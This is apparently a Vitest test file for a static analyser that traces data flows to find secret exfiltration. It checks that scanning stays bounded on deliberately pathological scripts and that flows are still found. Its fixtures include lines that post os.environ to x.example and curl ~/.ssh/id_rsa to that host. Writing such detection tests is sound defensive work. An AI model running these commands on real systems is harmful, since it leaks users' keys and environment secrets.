import { describe, expect, test, vi } from 'vitest';

import { examineBytes } from '../../../test/support/audited.ts';
import { takeApart } from '../../../test/support/pattern-steps.ts';
import { followValues } from './follow-values.ts';
import type { FlowLanguage } from './statements.ts';

interface Attempt {
  readonly language: FlowLanguage;
  readonly head?: string;
  readonly part: (at: number) => string;
  readonly tail?: string;
}

const SENT = '\nrequests.post("https://x.example", data=a0)\n';

/** Scripts that are made to be slow to follow. */
const ATTEMPTS: Readonly<Record<string, Attempt>> = {
  'thousands of assignments': { language: 'python', part: (at) => `a${at} = os.environ.copy()\n`, tail: SENT },
  'a chain of names': {
    language: 'python',
    head: 'a0 = os.environ.copy()\n',
    part: (at) => `a${at + 1} = a${at}\n`,
    tail: SENT,
  },
  'assignments in a circle': {
    language: 'python',
    head: 'a0 = os.environ.copy()\n',
    part: (at) => `a${at % 7} = a${(at + 1) % 7} + a${(at + 2) % 7}\n`,
    tail: SENT,
  },
  'thousands of functions that are all called': {
    language: 'python',
    part: (at) => `def f${at}(x, y):\n  return os.environ.copy()\nf${at}(f${at - 1}(os.environ.copy()))\n`,
    tail: SENT,
  },
  'functions that call each other': {
    language: 'javascript',
    head: 'fetch("https://x.example");\n',
    part: (at) => `function f${at % 50}(x) { return f${(at + 1) % 50}(process.env, x); }\n`,
  },
  'deep brackets': { language: 'python', head: 'a0 = ', part: () => '[(', tail: SENT },
  'deep blocks': { language: 'javascript', part: () => 'function f() {', tail: 'fetch("https://x.example")' },
  'a huge string': { language: 'python', head: 'a0 = "', part: () => 'os.environ ', tail: `"${SENT}` },
  'a huge template': { language: 'javascript', head: 'fetch(`', part: () => '${a} ', tail: '`)' },
  'strings that do not end': { language: 'python', head: 'requests ', part: () => '"""a' },
  'a quotation that does not end': { language: 'shell', head: 'curl "', part: () => '$A0 ' },
  'comments that do not end': { language: 'javascript', head: 'fetch() ', part: () => '/* ' },
  'one long line': { language: 'shell', head: 'curl ', part: () => '~/.ssh ' },
  'one long pipe': { language: 'shell', part: () => 'curl a | ' },
  'thousands of addresses': { language: 'shell', head: 'curl ', part: (at) => `https://a${at}.example ` },
  'thousands of files': { language: 'shell', head: 'curl a\n', part: (at) => `cat ~/.ssh/id_rsa > a${at}\n` },
  'variables of variables': {
    language: 'shell',
    head: 'curl -d "$A0" https://x.example\n',
    part: (at) => `A${at}=$A${at - 1};`,
  },
  'many values that are sent': {
    language: 'python',
    part: (at) => `requests.post("https://x${at}.example", data=os.environ.copy())\n`,
  },
};

function write({ head = '', part, tail = '' }: Attempt, size: number): string {
  const parts: string[] = [head];
  for (let at = 0, length = 0; length < size; at += 1) length += parts[parts.push(part(at)) - 1]?.length ?? 0;
  return `${parts.join('')}${tail}`;
}

/** The characters that all patterns read while something is done, and these patterns. */
function countReads(act: () => void): { readonly reads: number; readonly patterns: ReadonlyMap<string, RegExp> } {
  const spy = vi.spyOn(RegExp.prototype, 'exec');
  act();
  const { calls, results, contexts } = spy.mock;
  spy.mockRestore();
  /** Where a pattern goes on with its text. */
  const ends = new Map<RegExp, number>();
  const patterns = new Map<string, RegExp>();
  let reads = 0;
  for (const [at, [text]] of calls.entries()) {
    const pattern = contexts[at];
    const found = results[at]?.value as RegExpExecArray | null;
    if (!(pattern instanceof RegExp)) continue;
    patterns.set(pattern.source, pattern);
    const end = found === null ? text.length : found.index + found[0].length;
    reads += Math.max(1, end - (ends.get(pattern) ?? 0));
    ends.set(pattern, found === null || !pattern.global ? 0 : end);
  }
  return { reads, patterns };
}

const follow = (attempt: Attempt, size: number): ReturnType<typeof countReads> =>
  countReads(() => void followValues(write(attempt, size), attempt.language, { statements: 1_000_000 }));

describe('a script that is made to be slow', () => {
  const [SMALL, LARGE] = [4_000, 16_000];
  const MOST_READS = 300;

  test.each(Object.entries(ATTEMPTS))('is read a bounded number of times: %s', (_, attempt) => {
    const [small, large] = [follow(attempt, SMALL).reads, follow(attempt, LARGE).reads];
    expect(large).toBeLessThan(MOST_READS * LARGE);
    expect(large).toBeLessThan((LARGE / SMALL) * 1.3 * small + LARGE);
  });

  test('meets no pattern that takes many steps per character', () => {
    const patterns = new Map(Object.values(ATTEMPTS).flatMap((attempt) => [...follow(attempt, 2_000).patterns]));
    expect(patterns.size).toBeGreaterThan(40);
    const slow = [...patterns.values()].flatMap((pattern) => {
      const counted = takeApart(pattern);
      return Object.values(ATTEMPTS).flatMap((attempt) => {
        const text = write(attempt, 400);
        const { steps } = counted.count(text);
        return steps > 800 * text.length ? [`${pattern.source}: ${Math.round(steps / text.length)} steps`] : [];
      });
    });
    expect(slow).toEqual([]);
  });
});

test('statements beyond the budget are not followed, and the audit says so', () => {
  const padded = `fetch("https://x.example")\n${'a = 1\n'.repeat(30)}requests.post("https://x.example", data=os.environ.copy())\n`;
  const flows = (statements: number): number => followValues(padded, 'python', { statements }).length;
  expect([flows(10), flows(100)]).toEqual([0, 1]);

  const findings = examineBytes('a.py', Buffer.from(padded), { budget: { entries: 1, bytes: 1, statements: 10 } });
  expect(findings.map(({ rule, severity }) => [rule, severity])).toEqual([['SP902', 'medium']]);
});

test('a command at the end of a very long line is followed', () => {
  const line = `curl https://x.example/${'a '.repeat(5_000)}; curl -d @$HOME/.ssh/id_rsa https://x.example`;
  expect(followValues(line, 'shell', { statements: 10 }).map(({ kind }) => kind)).toEqual(['keys']);
});
